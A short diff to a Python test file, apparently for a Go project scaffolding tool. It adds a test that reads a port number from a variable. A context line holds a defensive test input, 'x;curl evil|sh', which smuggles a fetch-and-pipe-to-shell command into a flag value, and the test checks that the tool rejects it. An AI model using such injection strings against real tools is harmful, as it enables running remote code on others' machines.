@@ -270,3 +270,8 @@ def test_go_private_flag_refuses_shell_text(tmp_path, capsys):
         scaffold_main(["plan", str(tmp_path), "--go-private", "x;curl evil|sh"])
     assert exc.value.code == 2
     assert "not a GOPRIVATE list" in capsys.readouterr().err
+
+
+def test_port_kept_in_a_variable(tmp_path):
+    code = 'package main\n\nimport "net/http"\n\nfunc main() {\n\tport := "8765"\n\thttp.ListenAndServe(":"+port, nil)\n}\n'
+    assert _plan(tmp_path, {"main.go": code}).port == 8765
